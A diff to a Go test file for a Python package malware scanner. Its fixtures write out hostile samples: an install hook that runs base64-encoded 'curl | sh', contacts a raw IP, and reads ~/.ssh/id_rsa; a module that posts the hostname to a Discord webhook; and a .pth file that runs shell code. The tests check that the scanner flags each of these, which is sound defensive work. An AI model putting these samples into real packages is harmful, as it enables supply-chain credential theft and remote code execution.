@@ -1,6 +1,7 @@
 package inspection
 
 import (
+	"context"
 	"os"
 	"path/filepath"
 	"strings"
@@ -22,16 +23,8 @@ func write(t *testing.T, dir string, files map[string]string) {
 	}
 }
 
-func ruleIDs(fs []Finding) map[string]string {
-	out := map[string]string{}
-	for _, f := range fs {
-		out[f.RuleID] = f.File
-	}
-	return out
-}
-
 func TestScanFindsEachRule(t *testing.T) {
-	blob := strings.Repeat("QUJD", 150)
+	py := python(t)
 	dir := t.TempDir()
 	write(t, dir, map[string]string{
 		"evil-1.0/setup.py": `import base64, os, subprocess, urllib.request
@@ -39,54 +32,70 @@ from setuptools import setup
 from setuptools.command.install import install
 class Post(install):
     def run(self):
-        exec(base64.b64decode("cHJpbnQoMSk="))
-        urllib.request.urlopen("http://203.0.113.7/x")
+        exec (base64 .b64decode ("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ=="))
+        urllib.request.urlopen("http://45.61.1.10/x")
         subprocess.run(["sh", "-c", "id"])
         open(os.path.expanduser("~/.ssh/id_rsa")).read()
         subprocess.check_call(["pip", "install", "other"])
-setup(name="evil", cmdclass={"install": Post})
+setup(name="evil", cmdclass={
+    "install": Post})
 `,
-		"evil-1.0/evil/__init__.py": "DATA = \"" + blob + "\"\nf = getattr(__builtins__, 'ev' + 'al')\n",
+		"evil-1.0/evil/__init__.py": "import socket, requests\nrequests.post('https://discord.com/api/webhooks/1234567/abc', data=socket.gethostname())\n",
 		"evil-1.0/evil/hook.pth":    "import os; os.system('true')\n",
 		"evil-1.0/evil/ok.pth":      "some/dir\n",
 	})
-	findings, stats, err := Scan(dir, DefaultLimits())
+	findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := map[string]string{
-		"exec-encoded-payload":   "evil-1.0/setup.py",
-		"install-time-network":   "evil-1.0/setup.py",
-		"install-time-process":   "evil-1.0/setup.py",
-		"install-time-pip":       "evil-1.0/setup.py",
-		"credential-paths":       "evil-1.0/setup.py",
-		"credential-paths-code":  "evil-1.0/setup.py",
-		"custom-install-command": "evil-1.0/setup.py",
-		"encoded-blob":           "evil-1.0/evil/__init__.py",
-		"obfuscation":            "evil-1.0/evil/__init__.py",
-		"pth-with-code":          "evil-1.0/evil/hook.pth",
+	got := map[string]string{}
+	for _, f := range findings {
+		got[f.RuleID+" "+string(f.Severity)] = f.File
 	}
-	if d := cmp.Diff(want, ruleIDs(findings)); d != "" {
+	want := map[string]string{
+		"exec-decoded critical":           "evil-1.0/setup.py",
+		"decoded-code-layer medium":       "evil-1.0/setup.py",
+		"shell-download-command critical": "evil-1.0/setup.py",
+		"install-time-network high":       "evil-1.0/setup.py",
+		"download-and-run high":           "evil-1.0/setup.py",
+		"install-time-exec medium":        "evil-1.0/setup.py",
+		"install-time-process medium":     "evil-1.0/setup.py",
+		"install-time-pip high":           "evil-1.0/setup.py",
+		"credential-file medium":          "evil-1.0/setup.py",
+		"exfiltrate-credentials high":     "evil-1.0/setup.py",
+		"raw-ip-url high":                 "evil-1.0/setup.py",
+		"custom-install-command medium":   "evil-1.0/setup.py",
+		"exfiltration-endpoint high":      "evil-1.0/evil/__init__.py",
+		"exfiltrate-host-info high":       "evil-1.0/evil/__init__.py",
+		"pth-with-code medium":            "evil-1.0/evil/hook.pth",
+		"import-time-shell high":          "evil-1.0/evil/hook.pth",
+		"import-time-network high":        "evil-1.0/evil/__init__.py",
+	}
+	if d := cmp.Diff(want, got); d != "" {
 		t.Errorf("findings (-want +got):\n%s", d)
 	}
-	if stats.Files != 4 {
-		t.Errorf("read %d files, want 4", stats.Files)
+	if stats.Files != 4 || stats.Parsed != 4 || !stats.Complete {
+		t.Errorf("stats = %+v, want 4 files read", stats)
 	}
 	for _, f := range findings {
-		if f.Line == 0 || f.Snippet == "" || f.Message == "" {
+		if f.Line == 0 && f.RuleID != "custom-install-command" || f.Snippet == "" || f.Message == "" {
 			t.Errorf("finding %s lacks evidence: %+v", f.RuleID, f)
+		}
+		if f.RuleID == "shell-download-command" && (len(f.Layers) != 1 || !strings.Contains(f.Snippet, "curl http://example.invalid/x")) {
+			t.Errorf("the decoded command is not shown with its layers: %+v", f)
 		}
 	}
 }
 
-// Install-time rules only read setup.py: the same calls in the package's own code are normal.
+// Install-time rules only read setup.py: the same calls in the package's own functions are normal.
 func TestInstallTimeRulesOnlyInSetupPy(t *testing.T) {
+	py := python(t)
 	dir := t.TempDir()
 	write(t, dir, map[string]string{
 		"pkg-1.0/setup.py":        "from setuptools import setup\nsetup(name='pkg')\n",
 		"pkg-1.0/pkg/__init__.py": "import subprocess, urllib.request\ndef f():\n    subprocess.run(['ls'])\n    return urllib.request.urlopen('https://example.org')\n",
 	})
-	findings, _, err := Scan(dir, DefaultLimits())
+	findings, _, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -97,11 +106,12 @@ func TestInstallTimeRulesOnlyInSetupPy(t *testing.T) {
 
 // Real, benign code shipped by Debian yields no high-severity finding.
 func TestRealPackagesAreQuiet(t *testing.T) {
+	py := python(t)
 	for _, dir := range []string{"/usr/lib/python3/dist-packages/pip", "/usr/lib/python3/dist-packages/setuptools", "/usr/lib/python3/dist-packages/_pytest"} {
 		if _, err := os.Stat(dir); err != nil {
 			continue
 		}
-		findings, stats, err := Scan(dir, DefaultLimits())
+		findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), DefaultLimits())
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -116,24 +126,43 @@ func TestRealPackagesAreQuiet(t *testing.T) {
 	}
 }
 
-func TestLimits(t *testing.T) {
+// Hostile shapes: a file over the size limit is noted, deep nesting and a Python 2 file fall back
+// to the token scan, and the scanner finishes.
+func TestHostileFiles(t *testing.T) {
+	py := python(t)
 	dir := t.TempDir()
 	write(t, dir, map[string]string{
-		"big.py":  strings.Repeat("x = 1\n", 1000),
-		"long.py": "exec(base64.b64decode(" + strings.Repeat("a", 100) + "))\n",
+		"big.py":    strings.Repeat("x = 1\n", 2000),
+		"deep.py":   "x = " + strings.Repeat("(", 3000) + "1" + strings.Repeat(")", 3000) + "\n",
+		"py2.py":    "print 'hi'\nexec 'import os'\n",
+		"bomb.py":   "x = 'a' * 10**12\ny = ('ab' * 4000000) * 4000000\n",
+		"nested.py": strings.Repeat("if x:\n", 1) + "    pass\n",
 	})
 	lim := DefaultLimits()
-	lim.MaxFileBytes = 1000
-	lim.MaxLineBytes = 10
-	findings, stats, err := Scan(dir, lim)
+	lim.MaxFileBytes = 10000
+	findings, stats, _, err := ScanLocal(context.Background(), py, dir, DefaultRules(), lim)
 	if err != nil {
 		t.Fatal(err)
+	}
+	if !stats.Complete {
+		t.Errorf("the scanner did not finish: %+v", stats)
 	}
 	if len(stats.Skipped) != 1 || !strings.Contains(stats.Skipped[0], "big.py") {
 		t.Errorf("skipped = %v", stats.Skipped)
 	}
-	if len(findings) != 0 {
-		t.Errorf("a line cut at 10 bytes cannot match, got %+v", findings)
+	var token []string
+	for _, s := range stats.TokenScan {
+		token = append(token, strings.SplitN(s, ":", 2)[0])
+	}
+	if d := cmp.Diff([]string{"deep.py", "py2.py"}, token); d != "" {
+		t.Errorf("token scans (-want +got):\n%s", d)
+	}
+	ids := map[string]bool{}
+	for _, f := range findings {
+		ids[f.RuleID] = true
+	}
+	if !ids["unparsed-file"] || !ids["file-too-large"] {
+		t.Errorf("findings %v lack unparsed-file and file-too-large", ids)
 	}
 }
 
